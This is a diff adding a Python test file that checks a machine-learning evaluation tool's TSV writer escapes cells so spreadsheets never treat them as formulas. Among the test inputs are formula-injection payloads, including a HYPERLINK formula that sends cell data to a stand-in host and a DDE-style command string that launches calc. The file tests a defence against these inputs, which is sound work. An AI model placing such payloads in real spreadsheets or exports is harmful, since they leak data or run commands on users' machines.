@@ -1,0 +1,173 @@
+"""Tables of predictions: what spreadsheets read, and no cell that is a formula."""
+
+import csv
+import io
+import json
+
+import numpy as np
+import pytest
+
+from bert_tf.errors import UserError
+from bert_tf.runs.results import review, tables
+from bert_tf.runs.results.kept_rows import KeptRows
+
+TEXTS = [
+    "tab\there",
+    'a "quote"',
+    "two\nlines",
+    "ends\r\n",
+    "semi;colon, comma",
+    "",
+    "'tis",
+    "ü 文",
+]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://x.example/?"&A1)',
+        "+1 555 0100",
+        "-2+3",
+        "@SUM(1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "  =1",
+        "\u00a0=1",
+        "\ufeff=1",
+        "\u200b@x",
+        "\uff1dcmd|' /C calc'!A0",
+        "- a list",
+        "-",
+        "--5",
+        "-1e5x",
+        "=1",
+        "+\u0661",  # an Arabic digit
+        "-1\n",
+        "\ttext",
+    ],
+)
+def test_no_text_is_a_formula(text):
+    (cell,) = next(csv.reader(io.StringIO(tables.cell(text), newline=""), delimiter="\t"))
+    assert cell == f"'{text}"
+
+
+@pytest.mark.parametrize("text", ["-1", "+1", "-0.5", "-1e-7", "+.5", "-3."])
+def test_a_text_that_is_a_number_stays(text):
+    assert tables.cell(text) == f'"{text}"'
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [(-3, "-3"), (np.float32(-0.25), "-0.25"), (0.5, "0.5"), (None, ""), ("a-b=c", '"a-b=c"')],
+)
+def test_numbers_are_bare(value, expected):
+    assert tables.cell(value) == expected
+
+
+def test_texts_come_back_as_they_were(tmp_path):
+    path = f"{tmp_path}/t.tsv"
+    tables.write_table(path, ["id", "text"], [[f"x-{i}", text] for i, text in enumerate(TEXTS)])
+    assert tables.read_table(path) == {"id": [f"x-{i}" for i in range(len(TEXTS))], "text": TEXTS}
+
+
+def test_other_separators_start_no_cell(tmp_path):
+    """A spreadsheet may also separate columns at commas and semicolons, as its user once chose."""
+    tables.write_table(f"{tmp_path}/t.tsv", ["id", "text"], [[1, "a;=1"], [2, "a,=1"]])
+    text = (tmp_path / "t.tsv").read_text()
+    for separator in ";,":
+        rows = csv.reader(io.StringIO(text.replace("\t", separator)), delimiter=separator)
+        assert [row[1] for row in rows] == ["text", "a;=1", "a,=1"]
+
+
+def test_an_unpaired_surrogate_is_replaced(tmp_path):
+    tables.write_table(f"{tmp_path}/t.tsv", ["text"], [["a\ud800b"]])
+    assert tables.read_table(f"{tmp_path}/t.tsv") == {"text": ["a?b"]}
+
+
+def test_long_tables_and_texts_are_whole(tmp_path):
+    rows = [[i, "x" * 200_000 if i == 1500 else "y"] for i in range(2001)]
+    tables.write_table(f"{tmp_path}/t.tsv", ["id", "text"], rows)
+    found = tables.read_table(f"{tmp_path}/t.tsv")
+    assert found["id"] == [str(i) for i in range(2001)] and len(found["text"][1500]) == 200_000
+    tables.write_table(f"{tmp_path}/t.tsv", ["id"], [])
+    assert tables.read_table(f"{tmp_path}/t.tsv") == {"id": []}
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        ("", "must be a table as the evaluation writes it"),
+        ("id\tlabel\n1\n", "with as many columns in each row as in its header; it begins 'id"),
+        ("id\n1\t2\n", "Evaluate again"),
+    ],
+)
+def test_another_file_is_refused(tmp_path, content, message):
+    (tmp_path / "t.tsv").write_text(content)
+    with pytest.raises(UserError, match=message):
+        tables.read_table(f"{tmp_path}/t.tsv")
+
+
+def kept(labels):
+    return KeptRows({"id": f"d-{i}", "text_a": f"t{i}", "label": x} for i, x in enumerate(labels))
+
+
+def test_rows_are_kept_on_disk_with_all_columns():
+    rows = KeptRows(
+        [{"id": "1", "text_b": None}, {"id": "\ud800\n", "text_b": "b"}, {"label": 2.5}]
+    )
+    assert len(rows) == 3 and rows.columns == ["id", "text_b", "label"]
+    assert [rows[i] for i in (1, 0, 2)] == [
+        {"id": "\ud800\n", "text_b": "b"},
+        {"id": "1", "text_b": None},
+        {"label": 2.5},
+    ]
+    assert KeptRows([]).columns == []
+
+
+def test_a_folder_without_space_is_named(tmp_path):
+    with pytest.raises(OSError, match="Cannot keep the texts .*/gone: No such file"):
+        KeptRows([], f"{tmp_path}/gone")
+
+
+def test_errors_begin_with_the_most_certain_one(tmp_path):
+    probabilities = np.array([[0.9, 0.1], [0.4, 0.6], [0.2, 0.8], [0.3, 0.7]], np.float32)
+    rows = kept(["no", "no", "no", "yes"])
+    review.write_review(
+        f"{tmp_path}", "_x", rows, ["no", "yes"], np.array([0, 0, 0, 1]), probabilities
+    )
+    found = tables.read_table(f"{tmp_path}/errors_x.tsv")
+    assert found == {
+        "id": ["d-2", "d-1"],
+        "text_a": ["t2", "t1"],
+        "label": ["no", "no"],
+        "prediction": ["yes", "yes"],
+        "probability": ["0.8", "0.6"],
+    }
+    assert tables.read_table(f"{tmp_path}/eval_predictions_x.tsv")["id"] == [
+        "d-0",
+        "d-1",
+        "d-2",
+        "d-3",
+    ]
+    report = json.loads((tmp_path / "eval_report_x.json").read_text())
+    assert (
+        report["accuracy"] == 0.5
+        and "accuracy: 0.5000" in (tmp_path / "eval_report_x.txt").read_text()
+    )
+
+
+def test_errors_of_a_regression_begin_with_the_largest_difference(tmp_path):
+    y_true, predicted = np.array([1, 2, 3, 4], np.float32), np.array([1, 2.5, 0, 4.25], np.float32)
+    review.write_review(f"{tmp_path}", "", kept(y_true.tolist()), None, y_true, predicted)
+    found = tables.read_table(f"{tmp_path}/errors.tsv")
+    assert found["id"] == ["d-2", "d-1", "d-3"] and found["difference"] == ["-3.0", "0.5", "0.25"]
+    assert found["label"] == ["3.0", "2.0", "4.0"] and "probability" not in found
+    assert json.loads((tmp_path / "eval_report.json").read_text())["examples"] == 4
+
+
+def test_no_errors_are_an_empty_table(tmp_path):
+    y_true = np.array([0, 1])
+    review.write_review(f"{tmp_path}", "", kept(["a", "b"]), ["a", "b"], y_true, np.eye(2))
+    assert tables.read_table(f"{tmp_path}/errors.tsv")["id"] == []
